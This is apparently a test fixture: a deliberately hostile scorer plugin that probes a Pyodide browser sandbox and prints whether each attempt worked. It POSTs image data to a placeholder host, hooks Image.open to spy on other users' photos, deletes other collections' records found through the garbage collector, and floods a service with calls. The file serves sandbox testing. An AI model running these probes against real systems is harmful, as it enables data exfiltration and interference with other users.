"""A scorer that tries from Python whatever could leave the browser, or be left in it.

test_sealed.py runs it, as a file and from a link; `@THERE@` is a server that notes what arrives.
"""

import asyncio
import gc
import urllib.request

import js
from PIL import Image
from pyodide.code import run_js
from pyodide.http import pyfetch

from lookalike.images import prepare

LAYER = "avg_pool"
OPENVERSE = "@OPENVERSE@"
GLOBALS = (
    *("fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "Request", "Response"),
    *("Worker", "SharedWorker", "importScripts", "BroadcastChannel", "postMessage", "close"),
    *("caches", "CacheStorage", "indexedDB", "IDBFactory", "cookieStore", "FontFace"),
    *("StorageManager", "LockManager", "FileSystemSyncAccessHandle", "ServiceWorkerContainer"),
)
tried = False


real_open = Image.open


def spying(*args, **options):
    """What it would have of the next photo, when another scorer is in charge."""
    return real_open(*args, **options)


Image.open = spying


def outcome(name, attempt):
    try:
        attempt()
        print(f"{name}: WORKED")
    except BaseException as error:  # noqa: BLE001 - anything may happen
        print(f"{name}: refused, {str(error).splitlines()[0][:90] or type(error).__name__}")


async def later(name, attempt):
    try:
        await asyncio.wait_for(attempt(), 5)
        print(f"{name}: WORKED")
    except BaseException as error:  # noqa: BLE001 - anything may happen
        print(f"{name}: refused, {str(error).splitlines()[0][:90] or type(error).__name__}")


def there(owner, name):
    """Raise where a property is gone, from what it inherits from, too."""
    found = []
    while owner:
        if js.Object.getOwnPropertyDescriptor(owner, name) and getattr(owner, name, None):
            found.append(name)
        owner = js.Object.getPrototypeOf(owner)
    if not found:
        raise AttributeError(f"{name} is gone")


def get(url, data=None):
    with urllib.request.urlopen(urllib.request.Request(url, data=data)) as response:
        return response.read()


def lists(name):
    """The shelf's methods, found among all that Python knows."""
    hosts = [each for each in gc.get_objects() if type(each).__name__ == "Shelf"]
    return getattr(hosts[0]._shelf, name)


def at_once():
    for name in GLOBALS:
        outcome(name, lambda name=name: there(js.self, name))
    for name in ("storage", "locks", "serviceWorker", "sendBeacon", "gpu", "connection"):
        outcome(f"navigator.{name}", lambda name=name: there(js.navigator, name))
    outcome("createObjectURL", lambda: js.URL.createObjectURL(js.Blob.new(["1"])))
    outcome("eval", lambda: js.eval("1"))
    outcome("Function", lambda: js.Function.new("return 1")())
    outcome("run_js", lambda: run_js("1"))
    outcome("import() by run_js", lambda: run_js("import('@THERE@run_js')"))
    outcome("POST by urllib", lambda: get("@THERE@urllib", b"photo"))
    outcome("GET by urllib", lambda: get("@THERE@urllib"))
    outcome("POST to a service by urllib", lambda: get(OPENVERSE, b"photo"))


async def in_time():
    await later("pyfetch", lambda: pyfetch("@THERE@pyfetch", method="POST", body="photo"))
    await later("other collections", lambda: lists("entries")("0123456789abcdef", None, 10))
    await later("records of others", lambda: lists("delete")("0123456789abcdef"))
    outcome("GET elsewhere", lambda: get("@THERE@courier"))
    outcome("words too long", lambda: get(f"{OPENVERSE}?q={'x' * 201}"))
    outcome("a parameter of its own", lambda: get(f"{OPENVERSE}?q=cat&photo=x"))
    outcome("a page too deep", lambda: get(f"{OPENVERSE}?q=cat&page=1234567"))
    outcome("a thumbnail never named", lambda: get(f"{OPENVERSE}photo-in-base64/thumb/"))
    outcome("calls without end", lambda: [get(f"{OPENVERSE}?q=burglar") for _ in range(10_000)])


async def get_feature(model, image):
    global tried
    if not tried:
        tried = True
        at_once()
        await in_time()
        await getattr(js.console, "tried", asyncio.sleep(0))
        for name, said in getattr(js.console, "outcomes", js.Object.new()).to_py().items():
            print(f"before: {name}: {said}")
        print("burglar: done")
    return (await model.run(prepare(image, model.spec), [LAYER]))[LAYER][0].ravel()


def embs2score(source, candidate):
    return float(source @ candidate)
